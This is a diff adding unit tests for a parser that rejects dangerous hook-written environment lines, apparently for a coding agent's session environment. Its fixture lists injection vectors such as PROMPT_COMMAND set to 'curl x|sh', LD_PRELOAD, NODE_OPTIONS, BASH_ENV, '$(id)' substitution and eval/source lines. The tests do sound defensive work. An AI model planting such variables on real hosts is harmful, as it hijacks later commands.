@@ -51,3 +51,60 @@ describe("CLAUDE_ENV_FILE's export lines", () => {
     expect(Object.getOwnPropertyDescriptor(r.env, '__proto__')?.value).toBe('x');
   });
 });
+
+describe('the session-env rule (nothing a hook writes changes later host-side commands without the policy)', () => {
+  const project = { scope: 'project', sandboxed: false } as const;
+  const policy = { scope: 'policy', sandboxed: false } as const;
+  const sandboxedPolicy = { scope: 'policy', sandboxed: true } as const;
+  const lines = [
+    'export BASH_ENV=/repo/.x',
+    'export ENV=/repo/.x',
+    'export PROMPT_COMMAND="curl x|sh"',
+    'export NODE_OPTIONS=--require=/repo/x.js',
+    'export PYTHONSTARTUP=/repo/x.py',
+    'export PYTHONPATH=/repo',
+    'export PERL5OPT=-Mx',
+    'export RUBYOPT=-rx',
+    'export JAVA_TOOL_OPTIONS=-javaagent:/repo/x.jar',
+    'export GIT_SSH_COMMAND=/repo/x',
+    'export GIT_CONFIG_KEY_0=core.fsmonitor',
+    'export LD_PRELOAD=/repo/x.so',
+    'export PATH=/repo/.tools:/usr/bin',
+    'export PATH="$PATH:/opt/x/bin"',
+    'export FOO="$(id)"',
+    'source /repo/.env',
+    'eval "$(direnv export bash)"',
+    'export GREETING=hi',
+  ].join('\n');
+
+  it('refuses, by name or line, every variable that changes what runs, expansions, source and eval', () => {
+    const r = readSessionEnv(lines, project);
+    expect({ ...r.env }).toEqual({ GREETING: 'hi' });
+    expect(r.ignored).toEqual([
+      'sessionEnv.BASH_ENV',
+      'sessionEnv.ENV',
+      'sessionEnv.PROMPT_COMMAND',
+      'sessionEnv.NODE_OPTIONS',
+      'sessionEnv.PYTHONSTARTUP',
+      'sessionEnv.PYTHONPATH',
+      'sessionEnv.PERL5OPT',
+      'sessionEnv.RUBYOPT',
+      'sessionEnv.JAVA_TOOL_OPTIONS',
+      'sessionEnv.GIT_SSH_COMMAND',
+      'sessionEnv.GIT_CONFIG_KEY_0',
+      'sessionEnv.LD_PRELOAD',
+      'sessionEnv.PATH',
+      'CLAUDE_ENV_FILE:14',
+      'CLAUDE_ENV_FILE:15',
+      'CLAUDE_ENV_FILE:16',
+      'CLAUDE_ENV_FILE:17',
+    ]);
+  });
+
+  it('PATH only from a policy hook that is not sandboxed; a value with $PATH is never made a literal', () => {
+    expect(readSessionEnv('export PATH=/opt/x/bin:/usr/bin', policy).env.PATH).toBe('/opt/x/bin:/usr/bin');
+    expect(readSessionEnv('export PATH=/opt/x/bin', sandboxedPolicy).ignored).toEqual(['sessionEnv.PATH']);
+    expect(readSessionEnv('export PATH="$PATH:/opt/x/bin"', policy).ignored).toEqual(['CLAUDE_ENV_FILE:1']);
+    expect(readSessionEnv("export X='$PATH stays literal'", project).env.X).toBe('$PATH stays literal');
+  });
+});
